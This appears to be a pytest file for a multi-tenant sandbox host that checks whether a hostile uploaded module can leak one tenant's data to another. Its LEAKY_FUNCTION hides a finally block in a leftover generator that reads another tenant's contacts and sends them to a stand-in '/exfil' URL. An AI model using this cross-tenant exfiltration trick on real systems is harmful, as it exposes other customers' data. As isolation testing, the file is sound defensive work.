"""Tenant isolation against a hostile module, through the host's public surface: two
tenants enable the same uploaded module over the HTTP API and call it through their webhook
URLs. Tenant A's call leaves a suspended generator in a reference cycle whose ``finally``
calls ``crm.contacts`` (with B's contact ids), ``storage`` and ``fetch``; B's following call
must be unaffected, A's leftover must not read B's contacts, and A and B never share a
worker process (one worker per (purpose, tenant, module, version))."""

from __future__ import annotations

import json
from collections.abc import Hashable, Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from host.api.app import create_app
from host.platform import Host
from sandbox.invocation import Invocation, InvocationResult
from sandbox.pool import SandboxPool
from tests.host.conftest import (
    ADMIN_TOKEN,
    EMAIL_SCRIPT,
    SECRET_API_KEY,
    email_manifest,
    json_body,
    make_host,
)

LEAKY_FUNCTION = """
import json


def CRM_Marketing_ParseWebhookRequest(request):
    ids = json.loads(request.body)
    if request.query.get("mode") == "leave":
        def leftover():
            try:
                yield 1
            finally:
                found = crm.contacts(ids)
                emails = ",".join([c["email"] for c in found])
                log("leftover read [" + emails + "]")
                storage.set("leftover", emails)
                try:
                    fetch("https://api.sendmail.test/exfil?d=" + emails)
                except FetchError:
                    pass
        g = leftover()
        next(g)
        holder = [g]
        holder.append(holder)
        return {"response": {"status": 200, "body": {"left": True}}}
    junk = []
    for i in range(30000):
        junk.append([i])
    junk = None
    found = crm.contacts(ids)
    return {"response": {"status": 200, "body": {"emails": [c["email"] for c in found]}}}
"""
LEAKY_SCRIPT = EMAIL_SCRIPT.replace(
    "def CRM_Marketing_ParseWebhookRequest(request):\n    raise NotImplementedError\n",
    LEAKY_FUNCTION,
)
assert LEAKY_FUNCTION in LEAKY_SCRIPT
ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}


class RecordingPool(SandboxPool):
    """The real pool, remembering which worker process served which isolation key."""

    def __init__(self, **options: Any) -> None:
        super().__init__(**options)
        self.served: list[tuple[Hashable, int | None]] = []

    def run(self, invocation: Invocation) -> InvocationResult:
        result = super().run(invocation)
        self.served.append((invocation.isolation_key, result.worker_pid))
        return result


@pytest.fixture
def pool() -> Iterator[RecordingPool]:
    # one serving worker: without per-tenant workers, B would run in A's process
    with RecordingPool(size=1, spares=1) as recording:
        yield recording


@pytest.fixture
def host(tmp_path: Path, pool: RecordingPool) -> Iterator[Host]:
    instance = make_host(tmp_path / "host.db", sandbox=pool)
    yield instance
    instance.close()


@pytest.fixture
def client(host: Host) -> Iterator[TestClient]:
    with TestClient(create_app(host), raise_server_exceptions=False) as test_client:
        yield test_client


def setup_tenant(client: TestClient, tenant: str) -> tuple[dict[str, str], str, list[str]]:
    """Create the tenant, enable the module, add one contact: (headers, hook path, ids)."""
    created = client.post("/api/v1/tenants", headers=ADMIN, json={"id": tenant, "name": tenant})
    assert created.status_code == 201, created.text
    headers = {"Authorization": f"Bearer {created.json()['apiKey']}"}
    enabled = client.put(
        f"/api/v1/tenants/{tenant}/modules/leaky",
        headers=ADMIN,
        json={"settings": {"api_key": SECRET_API_KEY}},
    )
    assert enabled.status_code == 200, enabled.text
    hook = "/" + enabled.json()["webhookUrl"].split("://", 1)[1].split("/", 1)[1]
    contacts = client.post(
        f"/api/v1/tenants/{tenant}/contacts",
        headers=headers,
        json=[{"name": "Bob", "email": f"bob@{tenant}.test"}],
    )
    assert contacts.status_code == 200, contacts.text
    return headers, hook, contacts.json()["ids"]


def invocations(client: TestClient, tenant: str, headers: dict[str, str]) -> list[dict[str, Any]]:
    answer = client.get(f"/api/v1/tenants/{tenant}/invocations", headers=headers)
    assert answer.status_code == 200, answer.text
    return list(answer.json()["items"])


def test_a_leftover_of_tenant_a_never_reaches_tenant_b(
    client: TestClient, pool: RecordingPool
) -> None:
    uploaded = client.post(
        "/api/v1/modules",
        headers=ADMIN,
        json=json_body(email_manifest(id="leaky"), LEAKY_SCRIPT),
    )
    assert uploaded.status_code == 201, uploaded.text
    acme, acme_hook, _ = setup_tenant(client, "acme")
    globex, globex_hook, globex_ids = setup_tenant(client, "globex")

    left = client.post(acme_hook + "?mode=leave", content=json.dumps(globex_ids))
    assert left.status_code == 200 and left.json() == {"left": True}, left.text
    answer = client.post(globex_hook, content=json.dumps(globex_ids))
    assert answer.status_code == 200, answer.text
    assert answer.json() == {"emails": ["bob@globex.test"]}

    # the leftover ran inside acme's own invocation, with acme's callbacks: it found nothing
    [acme_call] = invocations(client, "acme", acme)
    assert acme_call["outcome"] == "ok"
    assert acme_call["log"] == "leftover read []\n"
    assert [f["host"] for f in acme_call["fetches"]] == ["api.sendmail.test"]
    [globex_call] = invocations(client, "globex", globex)
    assert globex_call["outcome"] == "ok"
    assert globex_call["log"] == "" and globex_call["fetches"] == []
    assert "bob@globex.test" not in json.dumps(invocations(client, "acme", acme))

    # and the two tenants never shared a worker process
    pids: dict[Hashable, set[int | None]] = {}
    for key, pid in pool.served:
        pids.setdefault(key, set()).add(pid)
    acme_key = ("live", "acme", "leaky", "1.0.0")
    globex_key = ("live", "globex", "leaky", "1.0.0")
    assert set(pids) == {acme_key, globex_key}
    assert not pids[acme_key] & pids[globex_key]

    again = client.post(globex_hook, content=json.dumps(globex_ids))
    assert again.status_code == 200 and again.json() == {"emails": ["bob@globex.test"]}
